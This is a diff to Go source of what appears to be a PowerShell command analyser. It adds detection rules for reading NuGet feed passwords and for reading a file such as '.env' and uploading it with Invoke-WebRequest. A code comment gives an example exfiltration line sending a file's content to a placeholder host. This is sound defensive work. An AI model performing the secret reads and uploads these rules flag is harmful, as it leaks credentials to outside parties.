@@ -499,6 +499,12 @@ func (ws *winState) runPS(src string) {
 // psWholeLine judges objects made in one statement and used in another:
 // the credential vault read, event logs listed then cleared.
 func (ws *winState) psWholeLine(src string) {
+	if strings.Contains(src, "ackageSourceCredentials") || strings.Contains(src, "ackagesourcecredentials") {
+		if l := strings.ToLower(src); (strings.Contains(l, "select-xml") || strings.Contains(l, "[xml]")) && !strings.Contains(l, "| measure") {
+			// NuGet.Config's packageSourceCredentials: the feeds' passwords
+			ws.emitWin(nil, "win-read-secrets", "a package feed's password (NuGet.Config packageSourceCredentials)")
+		}
+	}
 	if !strings.Contains(src, ".") || !strings.Contains(src, "(") {
 		return // every case calls a method
 	}
@@ -536,6 +542,21 @@ func (ws *winState) psWholeLine(src string) {
 	}
 	if strings.Contains(l, "passwordvault") && (strings.Contains(l, "retrievepassword") || strings.Contains(l, "retrieveall")) {
 		ws.emitWin(nil, "win-vault-dump", truncate(src, 120))
+	}
+	if (strings.Contains(l, "readallbytes(") || strings.Contains(l, "readalltext(")) && hasAny(l, "invoke-webrequest", "invoke-restmethod", "iwr ", "irm ", "uploadstring", "uploaddata") {
+		// $b = [IO.File]::ReadAllBytes('.env') ... Invoke-WebRequest
+		// "http://host/?d=$b": the file's content sent
+		for _, q := range psQuoted(src) {
+			p := ws.a.winAbs(strings.Trim(q, `'"`))
+			d, _ := ws.a.winSensitive(p)
+			if b := path.Base(p); d == "" && (b == ".env" || strings.HasPrefix(b, ".env.") && !strings.HasSuffix(b, ".example")) {
+				d = "the environment file " + strings.Trim(q, `'"`)
+			}
+			if d != "" {
+				ws.emitWin(nil, "win-exfil-secrets", d+" read and sent over the network")
+				break
+			}
+		}
 	}
 	if strings.Contains(l, "winlogon") && strings.Contains(l, "defaultpassword") {
 		ws.emitWin(nil, "win-read-secrets", "the saved log-on password (Winlogon DefaultPassword)")
